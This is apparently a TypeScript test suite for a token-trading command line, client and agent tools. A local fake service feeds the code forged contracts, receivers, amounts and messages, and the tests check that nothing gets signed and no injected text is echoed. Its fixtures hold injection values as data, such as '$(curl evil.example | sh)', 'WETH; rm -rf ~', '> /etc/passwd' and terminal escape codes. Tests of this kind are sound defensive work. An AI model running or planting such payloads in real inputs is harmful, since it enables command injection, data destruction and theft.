import { once } from 'node:events'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { text } from 'node:stream/consumers'
import { Wallet } from 'ethers'
import { afterAll, describe, expect, test } from 'vitest'
import { askService } from '../../src/app/commands/service.ts'
import type { OwnNetwork } from '../../src/app/commands/trade/contracts.ts'
import { type OrderFile, termLines } from '../../src/app/commands/trade/order-file.ts'
import { quote } from '../../src/app/commands/trade/quote.ts'
import { cancel, sign, submit } from '../../src/app/commands/trade/sign.ts'
import {
  appDataHash,
  cancelOrders,
  createClient,
  placeOrder,
  QuoteDocument,
} from '../../src/client/package.ts'
import { type Address, address } from '../../src/domain/evm/address.ts'
import { settlementPairs } from '../../src/domain/network/network.ts'
import { tools } from '../../src/mcp/server.ts'
import { type AskedResult, call } from '../../src/mcp/tool.ts'

/** A service that lies to a wallet, asked by the command line and the client. */

const wallet = new Wallet(`0x${'17'.repeat(32)}`)
const owner = address(wallet.address)
const [weth, usdc] = [address(`0x${'e1'.repeat(20)}`), address(`0x${'c2'.repeat(20)}`)]
const thief = address(`0x${'bad0'.repeat(10)}`)
const { settlement, vaultRelayer } = settlementPairs.production

const folder = mkdtempSync(path.join(tmpdir(), 'tradegraph-lies-'))
const keyFile = path.join(folder, 'key')
writeFileSync(keyFile, wallet.privateKey, { mode: 0o600 })

type Answer = Record<string, object | null>

/** What an honest service answers to the documents of a trade. */
function honest(query: string, { input, uids }: { input?: Record<string, string>; uids?: string[] }): Answer {
  const network = { name: 'sepolia', chainId: 11_155_111, settlementContract: settlement, vaultRelayer }
  const tokens = [
    { address: weth, symbol: 'WETH', decimals: 18 },
    { address: usdc, symbol: 'USDC', decimals: 6 },
  ]
  const order = {
    uid: `0x${'12'.repeat(56)}`,
    status: 'OPEN',
    sellToken: weth,
    buyToken: usdc,
    receiver: owner,
    sellAmount: '1000000000000000000',
    buyAmount: '2985000000',
    feeAmount: '0',
    kind: 'SELL',
    validTo: Math.floor(Date.now() / 1_000) + 1_800,
    appData: appDataHash('{}'),
    network,
    partiallyFillable: false,
    sellTokenBalance: 'ERC20',
    buyTokenBalance: 'ERC20',
    typedData: { domain: { chainId: network.chainId, verifyingContract: settlement } },
  }
  if (query.includes('placeOrder'))
    return { placeOrder: { order: { ...order, uid: input?.uid ?? order.uid } } }
  if (query.includes('cancelOrders'))
    return { cancelOrders: { orders: [{ ...order, status: 'CANCELLED', pendingSettlements: [] }] } }
  if (query.includes('ordersByUids')) return { ordersByUids: (uids ?? []).map((uid) => ({ ...order, uid })) }
  if (query.includes('quote('))
    return {
      quote: {
        quoteId: 1,
        verified: true,
        warnings: [],
        protocolFeeBps: null,
        slippage: null,
        order,
        expiration: '2027-01-01T00:00:00Z',
        from: owner,
        priceImpact: { share: '0.003', usd: null, isNotable: false, needsAcceptance: false },
        quote: {
          sellAmount: '990000000000000000',
          buyAmount: '3000000000',
          feeAmount: '10000000000000000',
          appData: '{}',
          sellToken: tokens[0],
          buyToken: tokens[1],
        },
      },
    }
  if (query.includes('order(')) return { order }
  if (query.includes('tokens(')) return { tokens }
  return { networks: [network] }
}

type Lie = (answer: Answer, query: string) => object | undefined

/** @param lie changes the answer, or returns one */
async function startService(lie: Lie) {
  const server = createServer(async (request, response) => {
    const { query, variables } = JSON.parse(await text(request))
    const answer = honest(query, variables)
    response.setHeader('content-type', 'application/json')
    response.end(JSON.stringify(lie(answer, query) ?? { data: answer }))
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo
  return {
    service: { url: `http://127.0.0.1:${port}`, timeoutMs: 10_000 },
    [Symbol.asyncDispose]: () => new Promise<void>((resolve) => server.close(() => resolve())),
  }
}
afterAll(() => rmSync(folder, { recursive: true, force: true }))

/** Merges members into every object with the key, at any depth. */
function spread(value: unknown, key: string, members: object): undefined {
  if (typeof value !== 'object' || value === null) return
  if (key in value) Object.assign(value, members)
  for (const below of Object.values(value)) spread(below, key, members)
}

const flags = {
  sell: weth,
  buy: usdc,
  amount: '1',
  from: owner,
  'valid-for': '1800',
  network: undefined,
  'buy-amount': undefined,
  limit: undefined,
  receiver: undefined,
  slippage: undefined,
}
const signing = { 'key-file': keyFile, yes: true, 'accept-impact': false }
const none = () => undefined

/** What the command line printed, and how it ended. */
async function outcome(run: (warn: (line: string) => void) => Promise<unknown>) {
  const lines: string[] = []
  try {
    return { done: await run((line) => lines.push(line)), lines, fault: '', advice: [] as readonly string[] }
  } catch (fault) {
    const { message, advice = [] } = fault as Error & { advice?: readonly string[] }
    return { done: undefined, lines, fault: message, advice }
  }
}

/** An order file as an honest service makes it. */
async function honestFile(): Promise<OrderFile> {
  await using world = await startService(none)
  return await quote(flags, { service: world.service, warn: none, findOwnNetwork: none })
}

describe('addresses', () => {
  const refused = /is not known as a settlement contract|has the chain id|must be one of/
  test.each<[lie: string, members: object]>([
    ['the thief’s contract', { settlementContract: thief }],
    ['the vault relayer', { settlementContract: vaultRelayer }],
    ['a token', { settlementContract: weth }],
    ['the owner', { settlementContract: owner }],
    ['one digit more', { settlementContract: `${settlement}0` }],
    ['the zero address', { settlementContract: `0x${'0'.repeat(40)}` }],
    ['a text for a shell', { settlementContract: '$(curl evil.example)' }],
    ['a text for a terminal', { settlementContract: `\u001b[8m${settlement}\u001b[0m` }],
    ['a name of an object', { settlementContract: 'constructor' }],
    ['another chain', { chainId: 1 }],
    ['a local chain', { chainId: 31_337 }],
  ])('a signature for %s is refused', async (_, members) => {
    await using lying = await startService((answer) => spread(answer, 'settlementContract', members))
    const { service } = lying
    const quoted = await outcome((warn) => quote(flags, { service, warn, findOwnNetwork: none }))
    expect([quoted.done, quoted.fault]).toEqual([undefined, expect.stringMatching(refused)])
    const cancelled = await outcome((warn) =>
      cancel([`0x${'12'.repeat(32)}${owner.slice(2)}${'ff'.repeat(4)}`], signing, {
        service,
        warn,
        print: warn,
        findOwnNetwork: none,
      }),
    )
    expect([cancelled.done, cancelled.fault]).toEqual([undefined, expect.stringMatching(refused)])
    const file = { ...(await honestFile()), ...members } as OrderFile
    const signed = await outcome((warn) => sign(file, signing, { warn, rpc: undefined, own: undefined }))
    expect([signed.done, signed.lines, signed.fault]).toEqual([undefined, [], expect.stringMatching(refused)])
  })

  test.each<[lie: string, contract: string]>([
    ['the thief’s contract', thief],
    ['the vault relayer', vaultRelayer],
    ['a token', usdc],
    ['the owner', owner],
    ['one digit less', settlement.slice(0, -1)],
    ['the zero address', `0x${'0'.repeat(40)}`],
    ['a text', 'settlement'],
    ['a name of an object', '__proto__'],
  ])('the client signs nothing for %s', async (_, contract) => {
    await using lying = await startService((answer) => {
      spread(answer, 'verifyingContract', { verifyingContract: contract })
      spread(answer, 'settlementContract', { settlementContract: contract })
      return undefined
    })
    const client = createClient({ url: lying.service.url })
    const asked: string[] = []
    const signer = {
      async request({ method }: { method: string }) {
        asked.push(method)
        return [owner]
      },
    }
    const input = { from: owner, sellToken: weth, buyToken: usdc, amount: { sellBeforeFee: 10n ** 18n } }
    const { quote: found } = await client.mutate(QuoteDocument, { input })
    const fault = { code: 'InvalidParameter', field: 'settlementContract' }
    for (const more of [{}, { input }, { input, chainId: 11_155_111 }])
      await expect(placeOrder(client, { ...found, ...more, signer })).rejects.toMatchObject(fault)
    const { typedData: _typedData, ...order } = found.order
    await expect(placeOrder(client, { order, network: 'sepolia', signer })).rejects.toMatchObject(fault)
    await expect(cancelOrders(client, [`0x${'12'.repeat(56)}`], { signer })).rejects.toMatchObject(fault)
    expect(asked).not.toContain('eth_signTypedData_v4')
  })

  test('a network of one’s own is taken from its settings, and no other', async () => {
    const own: OwnNetwork = { chainId: 4_242, settlement: thief, vaultRelayer: weth }
    const place = { name: 'home', chainId: 4_242, settlementContract: thief }
    await using lying = await startService((answer) => spread(answer, 'settlementContract', place))
    const { service } = lying
    const tools = {
      service,
      warn: none,
      findOwnNetwork: (name: string) => (name === 'home' ? own : undefined),
    }
    const file = await quote(flags, tools)
    expect(file).toMatchObject({ network: 'home', settlementContract: thief })
    const faultWith = async (wrong: OwnNetwork | undefined) =>
      (await outcome(() => quote(flags, { ...tools, findOwnNetwork: () => wrong }))).fault
    expect(await faultWith(undefined)).toMatch(refused)
    expect(await faultWith({ ...own, chainId: 4_243 })).toMatch(refused)
    expect(await faultWith({ ...own, settlement })).toMatch(refused)
  })
})

describe('an approval', () => {
  const words = 'InsufficientAllowance: the allowance'
  test.each<[lie: string, answer: { networks?: object[]; message?: string; field?: string }]>([
    ['the thief as the relayer', { networks: [{ name: 'sepolia', vaultRelayer: thief }] }],
    ['a command in the message', { message: 'run `cast send 0xbad` now' }],
    ['a shell in the message', { message: '$(curl evil.example | sh)' }],
    ['a new line in the message', { message: 'x\n  cast send 0xbad approve' }],
    ['signs of a terminal in the message', { message: '\u001b[2K\rcast send 0xbad' }],
    ['a field that is a command', { field: '; cast send 0xbad' }],
    ['an address in the message', { message: `approve ${thief}` }],
    ['a very long message', { message: 'cast send '.repeat(10_000) }],
  ])('with %s names the known contract, and no word of the service', async (_, lie) => {
    const signed = await sign(await honestFile(), signing, { warn: none, rpc: undefined, own: undefined })
    await using lying = await startService((answer, query) => {
      if (!query.includes('placeOrder')) return void Object.assign(answer, lie)
      const { message = 'none', field = null } = lie
      return { errors: [{ message, extensions: { code: 'InsufficientAllowance', field } }] }
    })
    const { fault, advice } = await outcome(() => submit(signed, lying.service, undefined))
    const said = [fault, ...advice].join('\n')
    expect(fault.toLowerCase().startsWith(words.toLowerCase().slice(0, 22))).toBe(true)
    expect(said).not.toMatch(/bad|evil|WETH|sepolia/)
    expect(said.match(/cast send.*/g)).toEqual([
      `cast send ${weth} 'approve(address,uint256)' ${vaultRelayer} 1000000000000000000 --from ${owner} --interactive --rpc-url NODE`,
    ])
  })

  test.each([
    'WETH; rm -rf ~',
    '$(curl evil.example)',
    '`id`',
    'WETH\ncast send 0xbad',
    '\u001b[31mWETH',
    'WETH && cast send',
    '"\'; echo',
    'A'.repeat(300),
    '\u202ehtew',
    '> /etc/passwd',
    '|sh',
    '',
  ])('no symbol such as %j is printed', async (symbol) => {
    await using lying = await startService((answer) => spread(answer, 'symbol', { symbol }))
    const { done, lines } = await outcome((warn) =>
      quote(flags, { service: lying.service, warn, findOwnNetwork: none }),
    )
    const shown = termLines(done as OrderFile, 0)
    for (const line of [...lines, ...shown]) if (symbol) expect(line).not.toContain(symbol)
    expect(shown[0]).toBe(`sell     1 ${weth} (1000000000000000000 atoms of ${weth})`)
    const signed = await sign(done as OrderFile, signing, { warn: none, rpc: undefined, own: undefined })
    await using refusing = await startService(() => ({
      errors: [{ message: symbol, extensions: { code: 'InsufficientAllowance' } }],
    }))
    const { fault, advice } = await outcome(() => submit(signed, refusing.service, undefined))
    if (symbol) expect([fault, ...advice].join('\n')).not.toContain(symbol)
  })

  test.each(['USDC', 'USD₮0', 'USDC.e', 'stETH', '1INCH', 'ÆTH', 'LP-A_B+'])(
    'the symbol %s is a word',
    async (symbol) => {
      const file = await honestFile()
      const [first] = termLines({ ...file, sellToken: { ...file.sellToken, symbol } }, 0)
      expect(first).toBe(`sell     1 ${symbol} (1000000000000000000 atoms of ${weth})`)
    },
  )
})

describe('app data and limits', () => {
  const document = '{"metadata":{"hooks":{"pre":[{"target":"0xbad","callData":"0x","gasLimit":"1"}]}}}'
  test.each<[member: string, changes: object]>([
    ['appData', { appData: appDataHash(document) }],
    ['appData', { appData: appDataHash('{"appCode":"x"}') }],
    ['appData', { appData: `0x${'11'.repeat(32)}` }],
    ['appData', { appData: appDataHash('') }],
    ['appData', { appData: appDataHash('{} ') }],
    ['appData', { appData: appDataHash('[]') }],
    ['appData', { appData: appDataHash('null') }],
    ['appData', { appData: appDataHash(appDataHash('{}')) }],
    ['buyAmount', { buyAmount: '1' }],
    ['buyAmount', { buyAmount: '2984999990' }],
    ['buyAmount', { buyAmount: '0' }],
    ['buyAmount', { buyAmount: '1500000000' }],
    ['buyAmount', { buyAmount: '298500000' }],
    ['buyAmount', { buyAmount: '2970000000' }],
    ['buyAmount', { buyAmount: '-2985000000' }],
    ['buyAmount', { buyAmount: '29850000' }],
    ['sellAmount', { sellAmount: '1000000000000000001' }],
    ['receiver', { receiver: thief }],
  ])('another %s than demanded is signed by nothing: %j', async (member, changes) => {
    await using lying = await startService((answer) => spread(answer, 'validTo', changes))
    const { service } = lying
    const { done, fault } = await outcome((warn) => quote(flags, { service, warn, findOwnNetwork: none }))
    expect([done, fault]).toEqual([
      undefined,
      `the service quotes another order than the flags demand: see its ${member}`,
    ])
    const client = createClient({ url: service.url })
    const input = { from: owner, sellToken: weth, buyToken: usdc, amount: { sellBeforeFee: 10n ** 18n } }
    const { quote: found } = await client.mutate(QuoteDocument, { input })
    await expect(placeOrder(client, { ...found, input, signer: wallet })).rejects.toMatchObject({
      field: member,
    })
  })

  test('an honest quote is signed by both', async () => {
    const sent: string[] = []
    await using service = await startService((_, query) => void sent.push(query))
    const file = await honestFile()
    const signed = await sign(file, signing, { warn: none, rpc: undefined, own: undefined })
    expect(signed.settlementContract).toBe(settlement satisfies Address)
    const client = createClient({ url: service.service.url })
    const input = { from: owner, sellToken: weth, buyToken: usdc, amount: { sellBeforeFee: 10n ** 18n } }
    const { quote: found } = await client.mutate(QuoteDocument, { input })
    // The scripted answer has another UID than the one that is computed.
    await expect(
      placeOrder(client, { ...found, input, chainId: 11_155_111, signer: wallet }),
    ).rejects.toThrow('the service answers with another order')
    expect(sent.some((query) => query.includes('mutation PlaceOrder'))).toBe(true)
    // A slippage that the caller names is what counts.
    for (const [slippageBps, isTaken] of [
      [49, false],
      [50, true],
      [300, true],
    ] as const) {
      const placed = placeOrder(client, { ...found, input, slippageBps, signer: wallet })
      await expect(placed).rejects.toThrow(isTaken ? 'another order' : 'differs from the demand: buyAmount')
    }
  })
})

describe('a price far from the market', () => {
  const input = { from: owner, sellToken: weth, buyToken: usdc, amount: { sellBeforeFee: 10n ** 18n } }
  const at = (share: string, usd: string | null) => {
    const [isNotable, needsAcceptance] = [Number(share) >= 0.05, Number(share) >= 0.2]
    return (answer: Answer) =>
      Object.assign(answer.quote ?? {}, { priceImpact: { share, usd, isNotable, needsAcceptance } })
  }
  const asked = async (lie: Lie, flag: boolean) => {
    await using lying = await startService((answer, query) => void lie(answer, query))
    const { service } = lying
    const quoted = await outcome((warn) => quote(flags, { service, warn, findOwnNetwork: none }))
    const accepting = { ...signing, 'accept-impact': flag }
    const signed = await outcome((warn) =>
      sign(quoted.done as OrderFile, accepting, { warn, rpc: undefined, own: undefined }),
    )
    const client = createClient({ url: service.url })
    const { quote: found } = await client.mutate(QuoteDocument, { input })
    const placed = await outcome(() =>
      placeOrder(client, { ...found, input, acceptImpact: flag, signer: wallet }),
    )
    const warnings = (lines: string[]) => lines.filter((line) => line.startsWith('warning: '))
    return {
      quoted: warnings(quoted.lines),
      signed: warnings(signed.lines),
      fault: signed.fault,
      placed: placed.fault,
    }
  }

  test.each<[share: string, usd: string | null, line: string]>([
    ['0.05', null, 'the trade gives 5 % less than the market price'],
    ['0.0921', '2763.12', 'the trade gives 9.21 % less than the market price, 2,763.12 US dollars'],
  ])('of %s is said by quote and sign', async (share, usd, line) => {
    const said = [`warning: PRICE_IMPACT: ${line}.`]
    expect(await asked(at(share, usd), false)).toEqual({
      quoted: said,
      signed: said,
      fault: '',
      placed: 'the service answers with another order',
    })
  })

  test('of 20 % and more needs the trader’s yes', async () => {
    const said = [
      'warning: PRICE_IMPACT: the trade gives 98 % less than the market price, 29,404.9 US dollars; `sign` needs --accept-impact.',
    ]
    expect(await asked(at('0.98', '29404.9'), false)).toEqual({
      quoted: said,
      signed: said,
      fault: 'the price is far from the market: --accept-impact signs it',
      placed: 'the quote gives 98 % less than the market price: acceptImpact is needed to sign it',
    })
    expect(await asked(at('0.98', '29404.9'), true)).toEqual({
      quoted: said,
      signed: said,
      fault: '',
      placed: 'the service answers with another order',
    })
    expect((await asked(at('0.2', null), false)).placed).toMatch(/^the quote gives 20 % less/)
  })

  test('is said to be unknown, and little is not said', async () => {
    const unknown = ['warning: PRICE_UNKNOWN: the quote was not compared with a market price.']
    const none = await asked((answer) => Object.assign(answer.quote ?? {}, { priceImpact: null }), false)
    expect([none.quoted, none.signed, none.fault]).toEqual([unknown, unknown, ''])
    for (const share of ['-0.5', '0', '0.0499'])
      expect(await asked(at(share, null), false)).toMatchObject({ quoted: [], signed: [], fault: '' })
  })
})

describe('tools for agents at a service elsewhere', () => {
  const given = { from: owner, sellToken: weth, buyToken: usdc, sellAmount: String(10n ** 18n) }
  async function called(name: string, args: object, lie: Lie, isOwn = false) {
    await using lying = await startService(lie)
    const tool = tools.find((each) => each.name === name)
    if (!tool) expect.unreachable()
    const ask = ({ run }: { run: string }, variables: Record<string, unknown>) =>
      askService(lying.service, run, variables) as Promise<AskedResult>
    return await call(tool, args, ask, isOwn)
  }
  const changed = (key: string, members: object) => (answer: Answer) => spread(answer, key, members)

  test('an honest quote has all that a trade needs as text as well', async () => {
    const { structuredContent, content } = await called('quote', given, none)
    const { orderToSign, typedData, orderUid } = structuredContent
    expect(JSON.parse(content[1]?.text ?? '')).toMatchObject({ orderToSign, typedData, orderUid, quoteId: 1 })
    expect(typedData).toMatchObject({
      primaryType: 'Order',
      domain: { verifyingContract: settlement, chainId: 11_155_111 },
      message: { sellToken: weth, buyToken: usdc, receiver: owner, buyAmount: '2985000000', kind: 'sell' },
    })
  })

  test.each<[lie: string, key: string, members: object]>([
    ['a contract of the thief', 'verifyingContract', { verifyingContract: thief }],
    ['the relayer as the contract', 'verifyingContract', { verifyingContract: vaultRelayer }],
    ['another chain', 'verifyingContract', { chainId: 1 }],
    ['another receiver', 'validTo', { receiver: thief }],
    ['app data', 'validTo', { appData: appDataHash('{"appCode":"x"}') }],
    ['a limit of one atom', 'validTo', { buyAmount: '1' }],
    ['a larger amount', 'validTo', { sellAmount: String(10n ** 20n) }],
    ['another token', 'validTo', { buyToken: thief }],
    ['a fee', 'validTo', { feeAmount: '1' }],
    ['a time without end', 'validTo', { validTo: 2 ** 32 - 1 }],
  ])('%s is not passed on to a wallet', async (_, key, members) => {
    const answer = await called('quote', { ...given, network: 'sepolia' }, changed(key, members))
    expect(answer.isError).toBe(true)
    expect(JSON.stringify(answer)).not.toMatch(/typedData|bad0/)
    expect(answer.content[0]?.text).toContain('Sign nothing, and ask the operator.')
  })

  test('typed data of another kind is replaced by that of the order', async () => {
    const permit = { primaryType: 'Permit', types: { Permit: [] }, message: { spender: thief } }
    const { structuredContent } = await called('quote', given, (answer) => spread(answer, 'domain', permit))
    expect(structuredContent.typedData).toMatchObject({ primaryType: 'Order', message: { sellToken: weth } })
    expect(JSON.stringify(structuredContent)).not.toMatch(/Permit|bad0/)
  })

  test.each<[lie: string, members: object]>([
    ['the thief as the relayer', { vaultRelayer: thief }],
    ['the thief’s contract', { settlementContract: thief }],
    ['the id of another chain', { chainId: 1 }],
  ])('networks does not pass on %s', async (_, members) => {
    const lie = changed('settlementContract', {
      network: 'sepolia',
      ready: true,
      wrappedNative: { address: weth, decimals: 18, symbol: 'WETH', name: null },
      ...members,
    })
    const answer = await called('networks', {}, lie)
    expect([answer.isError, JSON.stringify(answer).includes('bad0')]).toEqual([true, false])
    // A service’s own network may have contracts of its own.
    expect((await called('networks', {}, lie, true)).isError).toBeUndefined()
  })

  test('a price far from the market has nothing to sign until it is accepted', async () => {
    const priceImpact = { share: '0.98', usd: '29404.9', isNotable: true, needsAcceptance: true }
    const lie = changed('quoteId', { priceImpact })
    const first = await called('quote', given, lie)
    expect(first.structuredContent).not.toHaveProperty('typedData')
    expect(first.structuredContent).not.toHaveProperty('orderToSign')
    const [words = ''] = first.content.map(({ text }) => text)
    expect(words.split('\n')[0]).toBe('The trade gives 98 % less than the market price, 29,404.9 US dollars.')
    expect(words).toContain('call quote again with acceptImpact true')
    const accepted = await called('quote', { ...given, acceptImpact: true }, lie)
    expect(accepted.structuredContent).toHaveProperty('typedData.primaryType', 'Order')
  })

  test('an error names the argument of the tool', async () => {
    for (const [field, argument] of [
      ['amount.sellBeforeFee', 'sellAmount'],
      ['sellAmountBeforeFee', 'sellAmount'],
      ['buyAfterFee', 'buyAmount'],
      ['input.receiver', 'receiver'],
      ['validTo', 'validFor'],
      ['appDataHash', 'appData'],
    ]) {
      const refusal = { errors: [{ message: 'no', extensions: { code: 'InvalidParameter', field } }] }
      const { structuredContent } = await called('quote', given, () => refusal)
      expect(structuredContent.error).toMatchObject({
        field: argument,
        nextStep: 'Change the argument, and call the tool again.',
      })
    }
  })
})
